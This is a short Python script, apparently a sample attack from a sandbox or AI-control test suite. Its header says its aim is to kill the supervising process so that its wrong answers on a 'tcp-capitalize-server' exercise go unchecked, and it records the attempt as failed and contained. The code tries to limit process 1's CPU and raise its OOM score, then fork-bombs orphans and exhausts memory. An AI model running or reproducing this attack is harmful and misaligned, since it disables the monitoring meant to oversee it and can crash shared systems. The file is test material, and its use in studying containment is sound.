# attack: has the process that watches over it killed, so that its wrong answers are nobody's
# exercise: tcp-capitalize-server
# verdict: failed
# contained: A B C D E
# load: heavy
# places: A B C
import os
import resource
import signal

print("tried", flush=True)
for attack in (lambda: resource.prlimit(1, resource.RLIMIT_CPU, (1, 1)),
               lambda: open("/proc/1/oom_score_adj", "w").write("1000")):
    try:
        attack()
        print("gained: a hold on process 1", flush=True)
    except OSError:
        pass
# Orphans are reaped by process 1. Then memory runs out.
if os.fork() == 0:
    for _ in range(3000):
        if os.fork() == 0:
            os._exit(0)
    os._exit(0)
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
kept = []
while True:
    kept.append(b"\1" * (16 << 20))
